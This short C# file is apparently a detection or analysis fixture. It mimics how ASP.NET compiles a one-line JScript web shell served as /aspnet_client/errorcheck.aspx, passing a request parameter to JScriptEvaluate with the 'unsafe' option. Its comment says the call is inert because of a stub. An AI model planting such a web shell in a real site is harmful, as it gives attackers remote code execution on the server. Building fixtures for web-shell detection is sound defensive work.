// The shape ASP.NET gives a one-line JScript page `eval(Request.Item["…"], "unsafe")` served from
// /aspnet_client/: a class in the ASP namespace named after the page, its virtual path set in the
// constructor, the request parameter handed to JScriptEvaluate with the "unsafe" option. Inert: the
// stand-in JScriptEvaluate (stubs.cs) does nothing.
namespace ASP {
  public class aspnet_client_errorcheck_aspx : System.Web.UI.Page {
    public aspnet_client_errorcheck_aspx() { AppRelativeVirtualPath = "~/aspnet_client/errorcheck.aspx"; }
    public object __Render() { return Microsoft.JScript.Eval.JScriptEvaluate(Request["exir-sample-parameter"], "unsafe", null); }
  }
}
